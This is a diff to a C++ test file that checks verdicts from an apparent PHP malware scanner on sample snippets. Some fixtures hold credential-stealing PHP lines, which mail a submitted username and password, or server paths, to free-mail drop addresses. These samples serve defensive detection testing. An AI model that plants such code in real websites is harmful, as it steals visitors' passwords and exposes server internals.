@@ -420,9 +420,12 @@ TEST_F(DefaultRules, TechniqueVerdicts) {
       {"own page fetched by its address",
        "<?php $x = file_get_contents('https://' . $_SERVER['HTTP_HOST'] . '/feed');",
        Verdict::Clean},
-      {"password mailed to a free mail address",
+      {"typed password mailed to a free mail address",
        "<?php $m = 'User: ' . $_POST['u'] . \"\\nPassword: \" . $_POST['p']; "
        "mail('drop@gmail.com', 'new', $m);",
+       Verdict::Threat},
+      {"notice about a password mailed to a free mail address, nothing typed in it",
+       "<?php mail('owner@gmail.com', 'Notice', 'A customer changed their password on ' . date('c'));",
        Verdict::Suspicious},
       {"server paths mailed to a free mail address",
        "<?php mail('drop@yahoo.com', 'hi', $_SERVER['DOCUMENT_ROOT'] . \"\\n\" . "
